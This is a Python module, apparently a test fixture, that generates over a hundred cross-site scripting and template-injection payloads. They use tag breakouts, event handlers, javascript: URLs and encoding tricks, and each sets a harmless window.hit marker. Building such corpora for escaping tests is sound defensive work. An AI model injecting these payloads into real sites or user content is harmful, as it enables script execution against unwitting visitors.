"""A hundred texts that would run a script on a page that forgets to escape: each sets `window.hit` or opens a dialog."""

RUN = "window.hit=1"
TAGS = ["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle"]
TAGS += [
    "input autofocus onfocus",
    "select autofocus onfocus",
    "marquee onstart",
    "iframe onload",
    "object data=x onerror",
    "style onload",
]
TAGS += ["math href=x onclick", "button autofocus onfocus", "textarea autofocus onfocus", "a href=x autofocus tabindex=1 onfocus"]
BEFORE = ["", '">', "'>", "</textarea>", "</title>", "--><", "</div></main>"]

PAYLOADS = [f"{before}<{tag}={RUN}>" for tag in TAGS for before in BEFORE[:5]]
PAYLOADS += [f"{before}<script>{RUN}</script>" for before in BEFORE]
PAYLOADS += [
    f'" autofocus onfocus="{RUN}',
    f"' autofocus onfocus='{RUN}",
    f"` onmouseover=`{RUN}",
    f"javascript:{RUN}",
    f'<a href="javascript:{RUN}">x</a>',
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>",
    f"<img/src=x/onerror={RUN}>",
    "<img src=x onerror=&#119;indow.hit=1>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    "{{7*7}}",
    "${7*7}",
    "{% raw %}<script>window.hit=1</script>{% endraw %}",
    f"<base href=javascript:{RUN}//>",
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\">",
    f"＜script＞{RUN}＜/script＞",
]  # fmt: skip
assert len(PAYLOADS) >= 100 and len(set(PAYLOADS)) == len(PAYLOADS), len(PAYLOADS)
